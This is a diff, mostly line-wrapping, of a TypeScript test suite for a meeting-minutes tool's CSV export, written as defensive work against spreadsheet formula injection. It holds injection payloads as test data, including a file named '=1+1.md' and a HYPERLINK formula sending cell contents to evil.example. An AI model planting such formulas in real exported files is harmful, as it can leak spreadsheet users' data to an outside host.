@@ -13,7 +13,8 @@ import { readCsv } from "../helpers/csv.js";
 import { itWithTools, plainCliEnv, run } from "../helpers/tools.js";
 
 const bin = resolve("bin/minutes.js");
-const minutes = (cwd: string, ...args: string[]) => spawnSync(process.execPath, [bin, ...args], { cwd, encoding: "utf8", env: plainCliEnv() });
+const minutes = (cwd: string, ...args: string[]) =>
+  spawnSync(process.execPath, [bin, ...args], { cwd, encoding: "utf8", env: plainCliEnv() });
 
 // Payloads from the OWASP page and its siblings: DDE, HYPERLINK, each trigger character, a leading space,
 // a full-width =, a tab or a ; before a formula (a split under another separator would start a cell there).
@@ -43,7 +44,10 @@ function exportCsv(): { dir: string; csv: string } {
   const dir = mkdtempSync(join(tmpdir(), "minutes-csv-"));
   writeFileSync(join(dir, "2024-01-10.md"), meeting);
   // A file name is a cell too (the source column).
-  writeFileSync(join(dir, "=1+1.md"), meeting.replace("2024-01-10", "2024-02-10").replace(/\| - item \|/, "| Book the room |"));
+  writeFileSync(
+    join(dir, "=1+1.md"),
+    meeting.replace("2024-01-10", "2024-02-10").replace(/\| - item \|/, "| Book the room |"),
+  );
   mkdirSync(join(dir, "out"));
   const r = minutes(dir, "actions", ".", "-f", "csv", "-o", "out/register.csv", "--today", "2024-03-01");
   expect(r.stderr).not.toContain("error:");
@@ -69,7 +73,14 @@ describe("CSV export", () => {
       `'- item`,
       "x\t'=1+1",
     ]);
-    expect(first.map((r) => cell(r, "comment"))).toEqual(["-2", "+1", "y;'=1+1", 'He said "hi"', "'＝1+1", "done;' -5% this year"]);
+    expect(first.map((r) => cell(r, "comment"))).toEqual([
+      "-2",
+      "+1",
+      "y;'=1+1",
+      'He said "hi"',
+      "'＝1+1",
+      "done;' -5% this year",
+    ]);
     expect(cell(first[1]!, "responsible")).toBe("'@Bo");
     expect(cell(first[1]!, "owners")).toBe("'@Bo");
     expect(cell(first[2]!, "status_text")).toBe("'-1+1");
@@ -77,7 +88,8 @@ describe("CSV export", () => {
     expect(rows.filter((r) => cell(r, "source").startsWith("'=1+1.md:")).length).toBe(6);
     // Every cell of the file, and every part after a ; a tab or a line break: dangerous only if it is a
     // plain number ("-2", "+1"), which holds no formula.
-    for (const part of rows.flat().flatMap((v) => v.split(/(?<=[;\t\n])/))) if (formulaStart.test(part)) expect(part).toMatch(/^[+-]\d+$/);
+    for (const part of rows.flat().flatMap((v) => v.split(/(?<=[;\t\n])/)))
+      if (formulaStart.test(part)) expect(part).toMatch(/^[+-]\d+$/);
   });
 
   it("quotes a neutralised cell, doubles quotes and quotes another locale's separators", () => {
@@ -96,29 +108,48 @@ describe("CSV export", () => {
     expect(csvField("plain")).toBe("plain");
   });
 
-  itWithTools("soffice", "unzip")("opens in LibreOffice Calc with no formula, with a comma or a semicolon as separator", () => {
-    const { dir, csv } = exportCsv();
-    // The control: the same cells unneutralised, written the way the export did before. LibreOffice must
-    // read formulas in it, or the check below proves nothing.
-    const raw = (value: string) => (/[",\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value);
-    const rows = readCsv(csv.slice(1)).map((row) => row.map((v) => raw(v.replace(/(^|[;\t\n])'/g, "$1"))).join(","));
-    writeFileSync(join(dir, "out/control.csv"), `\uFEFF${rows.join("\r\n")}\r\n`);
-    const profile = `-env:UserInstallation=file://${join(dir, "lo-profile")}`;
-    const sheets = join(dir, "sheets");
-    const convert = (filter: string, to: string) =>
-      run("soffice", [profile, "--headless", `--infilter=${filter}`, "--convert-to", to, "--outdir", sheets, join(dir, "out/register.csv"), join(dir, "out/control.csv")]);
-    const formulas = (file: string, entry: string, pattern: RegExp) => (run("unzip", ["-p", join(sheets, file), entry]).match(pattern) ?? []).length;
+  itWithTools("soffice", "unzip")(
+    "opens in LibreOffice Calc with no formula, with a comma or a semicolon as separator",
+    () => {
+      const { dir, csv } = exportCsv();
+      // The control: the same cells unneutralised, written the way the export did before. LibreOffice must
+      // read formulas in it, or the check below proves nothing.
+      const raw = (value: string) => (/[",\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value);
+      const rows = readCsv(csv.slice(1)).map((row) => row.map((v) => raw(v.replace(/(^|[;\t\n])'/g, "$1"))).join(","));
+      writeFileSync(join(dir, "out/control.csv"), `\uFEFF${rows.join("\r\n")}\r\n`);
+      const profile = `-env:UserInstallation=file://${join(dir, "lo-profile")}`;
+      const sheets = join(dir, "sheets");
+      const convert = (filter: string, to: string) =>
+        run("soffice", [
+          profile,
+          "--headless",
+          `--infilter=${filter}`,
+          "--convert-to",
+          to,
+          "--outdir",
+          sheets,
+          join(dir, "out/register.csv"),
+          join(dir, "out/control.csv"),
+        ]);
+      const formulas = (file: string, entry: string, pattern: RegExp) =>
+        (run("unzip", ["-p", join(sheets, file), entry]).match(pattern) ?? []).length;
 
-    // Comma, UTF-8, the way the file is meant to be read: an ODS spreadsheet.
-    convert("CSV:44,34,76,1", "ods");
-    expect(readdirSync(sheets).sort(), "LibreOffice Calc converted nothing: is libreoffice-calc installed?").toEqual(["control.ods", "register.ods"]);
-    expect(formulas("control.ods", "content.xml", /table:formula=/g)).toBeGreaterThanOrEqual(6);
-    expect(formulas("register.ods", "content.xml", /table:formula=/g)).toBe(0);
-    expect(run("unzip", ["-p", join(sheets, "register.ods"), "content.xml"])).toContain("&apos;=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;Click&quot;)");
+      // Comma, UTF-8, the way the file is meant to be read: an ODS spreadsheet.
+      convert("CSV:44,34,76,1", "ods");
+      expect(readdirSync(sheets).sort(), "LibreOffice Calc converted nothing: is libreoffice-calc installed?").toEqual([
+        "control.ods",
+        "register.ods",
+      ]);
+      expect(formulas("control.ods", "content.xml", /table:formula=/g)).toBeGreaterThanOrEqual(6);
+      expect(formulas("register.ods", "content.xml", /table:formula=/g)).toBe(0);
+      expect(run("unzip", ["-p", join(sheets, "register.ods"), "content.xml"])).toContain(
+        "&apos;=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;Click&quot;)",
+      );
 
-    // Semicolon, as a French or German spreadsheet reads CSV: an XLSX workbook.
-    convert("CSV:59,34,76,1", "xlsx");
-    expect(formulas("control.xlsx", "xl/worksheets/sheet1.xml", /<f[ >]/g)).toBeGreaterThanOrEqual(1);
-    expect(formulas("register.xlsx", "xl/worksheets/sheet1.xml", /<f[ >]/g)).toBe(0);
-  });
+      // Semicolon, as a French or German spreadsheet reads CSV: an XLSX workbook.
+      convert("CSV:59,34,76,1", "xlsx");
+      expect(formulas("control.xlsx", "xl/worksheets/sheet1.xml", /<f[ >]/g)).toBeGreaterThanOrEqual(1);
+      expect(formulas("register.xlsx", "xl/worksheets/sheet1.xml", /<f[ >]/g)).toBe(0);
+    },
+  );
 });
